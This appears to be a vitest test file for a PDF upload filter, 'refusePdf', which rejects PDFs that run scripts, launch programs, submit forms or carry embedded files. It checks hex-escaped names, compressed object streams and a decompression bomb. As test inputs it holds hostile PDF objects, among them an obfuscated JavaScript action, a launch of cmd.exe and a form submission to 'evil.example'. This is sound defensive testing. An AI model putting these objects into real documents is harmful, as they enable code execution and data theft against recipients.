import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { refusePdf } from '#app/files/active-pdf.server.ts'

/** A PDF with an object, written plainly or kept in a compressed stream of objects as newer writers do. */
function pdf(object: string, { isCompressed = false, head = '/Type /ObjStm /Filter /FlateDecode' } = {}) {
  const latin = (text: string) => Buffer.from(text, 'latin1')
  const stream = isCompressed ? deflateSync(latin(`1 0 ${object}`)) : Buffer.alloc(0)
  const plain = isCompressed ? '' : `1 0 obj\n${object}\nendobj\n`
  return Buffer.concat([
    latin(
      `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${plain}2 0 obj\n<< ${isCompressed ? head : ''} /N 1 /First 4 /Length ${stream.length} >>\nstream\n`,
    ),
    stream,
    latin('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ])
}

const harmless = '<< /Type /Catalog /Pages 3 0 R /OpenAction [4 0 R /Fit] /AcroForm << /Fields [] >> >>'
const attacks = {
  activePdf: [
    '<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
    '<< /S /J#61vaScript /JS 5 0 R >>',
    '<< /S /#4c#61unch /F (cmd.exe) >>',
    '<< /A << /S/SubmitForm/F(http://evil.example) >> >>',
    '<< /Subtype /RichMedia >>',
    '<< /Subtype /Movie /Movie 5 0 R >>',
    '<< /S /Sound /Sound 5 0 R >>',
    '<< /AcroForm << /XFA 9 0 R >> >>',
  ],
  filledPdf: [
    '<< /Names << /EmbeddedFiles 7 0 R >> >>',
    '<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>',
    '<< /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>',
  ],
}

test('a PDF that is only to be read is taken', async () => {
  for (const isCompressed of [false, true])
    expect(await refusePdf(pdf(harmless, { isCompressed }))).toBe(null)
  // Words of a text, and names that only begin alike.
  expect(await refusePdf(pdf('(How JavaScript and Launch work) /LaunchPad /EncryptMetadata true'))).toBe(null)
  expect(await refusePdf(Buffer.from('%PDF-1.7\n%%EOF\n'))).toBe(null)
})

test('what runs, sends, or carries files is found, however it is spelled and wherever it is kept', async () => {
  for (const [reason, objects] of Object.entries(attacks))
    for (const object of objects)
      for (const isCompressed of [false, true])
        expect([object, await refusePdf(pdf(object, { isCompressed }))]).toEqual([object, reason])
})

test('what cannot be looked into is refused: locked, broken, packed in another way, or too much', async () => {
  expect(await refusePdf(pdf('<< >>\nendobj\ntrailer << /Encrypt 8 0 R >>'))).toBe('lockedPdf')
  const whole = pdf(harmless, { isCompressed: true })
  const broken = Buffer.from(whole)
  broken.fill(0, whole.indexOf('stream\n') + 7, whole.indexOf('stream\n') + 17)
  expect(await refusePdf(broken)).toBe('damagedPdf')
  const otherwise = { isCompressed: true, head: '/Type /ObjStm /Filter /LZWDecode' }
  expect(await refusePdf(pdf(harmless, otherwise))).toBe('damagedPdf')
  const bomb = pdf(' '.repeat(40 * 1024 * 1024), { isCompressed: true })
  expect(bomb.length).toBeLessThan(100_000)
  expect(await refusePdf(bomb)).toBe('damagedPdf')
})
